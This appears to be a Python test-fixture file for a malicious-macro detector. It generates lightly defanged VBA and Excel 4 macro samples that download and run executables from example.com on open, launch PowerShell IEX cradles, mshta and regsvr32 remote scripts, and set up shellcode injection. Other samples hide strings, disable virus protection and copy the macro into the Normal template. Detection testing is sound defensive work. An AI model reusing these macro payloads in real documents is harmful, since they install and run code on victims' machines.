"""Macros: modules as Office exports them, projects as they lie in OLE files, old Excel macros, web archives."""

import struct

from formats import compound_file, compressed_vba
from plain import b64, plain, sample, script

HEAD = 'Attribute VB_Name = "ThisDocument"\nAttribute VB_Base = "1Normal.ThisDocument"\n'


def module(rule, *bodies):
    for body in bodies:
        script(rule, HEAD + plain(body), HEAD + plain(body).replace("\n", "\n    "), case=True)


FETCH = """Private Declare PtrSafe Function URL·DownloadTo·File Lib "urlmon" Alias "URL·DownloadTo·FileA" (ByVal a As LongPtr, ByVal u As String, ByVal f As String, ByVal r As LongPtr, ByVal c As LongPtr) As Long
Sub Auto·Open()
    URL·DownloadTo·File 0, "http://example.com/x", Environ("TEMP") & "\\x.exe", 0, 0
    She·ll Environ("TEMP") & "\\x.exe", vbHide
End Sub
"""
HTTP = """Private Sub Document_·Open()
    Set h = CreateObject("MSX·ML2.XML·HTTP")
    h.Open "GET", "http://example.com/x", False
    h.Send
    Set s = CreateObject("ADO·DB.Stream")
    s.Open: s.Type = 1: s.Write h.ResponseBody
    s.SaveTo·File "C:\\Users\\Public\\x.exe", 2
    CreateObject("WScr·ipt.Shell").Run "C:\\Users\\Public\\x.exe", 0
End Sub
"""
BINARY = """Sub Workbook_·Open()
    Dim w: Set w = CreateObject("Win·Http.WinHttp·Request.5.1")
    w.Open "GET", u, 0: w.Send
    Open p For Binary As #1
    Put #1, , w.ResponseBody
    Close #1
    r = She·ll(p, 0)
End Sub
"""
module("Macro_Fetches_Program", FETCH, HTTP, BINARY)

module(
    "Macro_Starts_Interpreter",
    'Sub Auto·Exec()\nShe·ll "power·shell -nop -w hid·den -c ""I·EX(New-Object Net.WebClient).Download·String(\'http://example.com/a\')"""\nEnd Sub\n',
    'Private Sub Workbook_·Open()\nSet w = CreateObject("WScr·ipt.Shell")\nw.Run "msh·ta http://example.com/a.hta", 0\nEnd Sub\n',
    'Sub Document_·Close()\nGetObject("winm·gmts:root\\cimv2:Win32_·Process").Create "regs·vr32 /s /n /u /i:http://example.com/a.sct scrobj.dll", Null, Null, p\nEnd Sub\n',
)
module(
    "Macro_Starts_Program",
    'Sub Auto·_Open()\nShe·ll "calc.exe"\nEnd Sub\n',
    'Private Sub InkPicture1_·Painted(ByVal h As Long, ByVal r As MSINKAUTLib.IInkRectangle)\nCreateObject("She·ll.Application").Open file\nEnd Sub\n',
    'Sub Workbook_·BeforeClose(c As Boolean)\nSet x = GetObject("new:{72C2·4DD5-D70A-438B-8A42-98424B88AFB8}")\nx.Run f\nEnd Sub\n',
)
word = "CreateObject(" + " & ".join(f"Chr({ord(c)})" for c in plain("WScr·ipt.Shell")) + ").Run f\n"
module(
    "Macro_Hides_Text",
    "Sub a()\n" + word + "End Sub\n",
    "Sub a()\nx = " + " & _\n  ".join(f"ChrW(&H{ord(c):X})" for c in plain("power·shell -e")) + "\nSet y = CreateObject(x)\nEnd Sub\n",
    'Function b()\nx = "po" & "we" & "rs" & "he" & "ll" & " -" & "w " & "hi" & "dd" & "en"\nShe·ll x\nEnd Function\n',
    'Sub c()\nCallByName o, "Run", 1, StrReverse("exe.llehs' + 'rewop")\nEnd Sub\n',
)
module(
    "Macro_Runs_Machine_Code",
    """Private Declare PtrSafe Function Virtual·Alloc Lib "kernel32" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Function RtlMove·Memory Lib "kernel32" (ByVal d As LongPtr, ByRef s As Any, ByVal n As Long) As LongPtr
Private Declare PtrSafe Function Create·Thread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr
Sub MyMacro()
    buf = Array(232, 130, 0, 0, 0, 96)
End Sub
""",
    """Private Declare Function a Lib "kernel32" Alias "Heap·Create" (ByVal x As Long, ByVal y As Long, ByVal z As Long) As Long
Private Declare Sub b Lib "kernel32" Alias "RtlCopy·Memory" (d As Any, s As Any, ByVal n As Long)
Private Declare Function c Lib "kernel32" Alias "EnumSystem·LocalesA" (ByVal p As Long, ByVal f As Long) As Long
""",
)
module(
    "Macro_Copies_Itself",
    """Private Sub Document_·Open()
    Options.Virus·Protection = False
    Set n = NormalTemplate.VB·Project.VBComponents(1).Code·Module
    n.Insert·Lines 1, ThisDocument.VB·Project.VBComponents(1).Code·Module.Lines(1, 99)
End Sub
""",
    """Sub Workbook_·Open()
    CreateObject("WScr·ipt.Shell").RegWrite "HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security\\Access·VBOM", 1, "REG_DWORD"
    ActiveWorkbook.VB·Project.VBComponents.Import "C:\\a.bas"
End Sub
""",
)

for source in (FETCH, HTTP, 'Sub Auto·Open()\nShe·ll "power·shell"\nEnd Sub\n'):
    names = " ".join(line for line in plain(source).replace("(", " ").replace('"', " ").split("\n"))
    sample(
        "Macro_In_Raw_Project",
        compound_file({"WordDocument": bytes(512), "ThisDocument": names.encode() + compressed_vba(HEAD + source)}),
    )

BOF = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0x1F54, 0x7CD, 0xC1, 0x106)


def workbook(hidden, name):
    """[MS-XLS] BoundSheet8 of a macro sheet, and a built-in name in Lbl."""
    sheet = struct.pack("<HHIBBBB", 0x85, 14, 0x500, hidden, 1, 6, 0) + b"Macro1"
    label = struct.pack("<HHHBBHHHI", 0x18, 25, 0x20, 0, 1, 11, 0, 1, 0) + bytes([0, name]) + bytes(11)
    return BOF + sheet + label


for hidden, name in ((1, 1), (2, 1), (1, 2)):
    book = workbook(hidden, name)
    sample("Excel4_Macro_Runs_By_Itself", compound_file({"Workbook": book}), book)

SHEET = '<?xml version="1.0" encoding="UTF-8"?>\n<{0}macrosheet xmlns{1}="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>{2}</f><v>0</v></c></row></sheetData></{0}macrosheet>'
for prefix, space, formula in (
    ("xm:", ":xm", 'EX·EC("msh·ta http://example.com/a")'),
    ("", "", 'CA·LL("url·mon","URL·DownloadTo·FileA","JJCCJJ",0,A2,A3,0,0)'),
    ("xm:", ":xm", 'REGI·STER("Shell·32","She·llExecuteA","JJCCCCJ","run",,1,9)'),
    ("xm:", ":xm", 'IF(A9,EX·EC( "cmd.exe /c start " &amp; B7),HALT())'),
):
    script("Excel4_Macro_Starts_Program", SHEET.format(prefix, space, formula))

for folder in ("editdata.mso", "image001.mso", "x.mso"):
    script(
        "Macro_In_Web_Archive",
        f'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html\n\n<html xmlns:o="urn:schemas-microsoft-com:office:office"></html>\n--b\nContent-Location: file:///C:/{folder}\nContent-Transfer-Encoding: base64\nContent-Type: application/x-mso\n\n'
        + b64(b"Active" + b"Mime\0\0\x01\xf0" + bytes(60))
        + "\n--b--\n",
    )
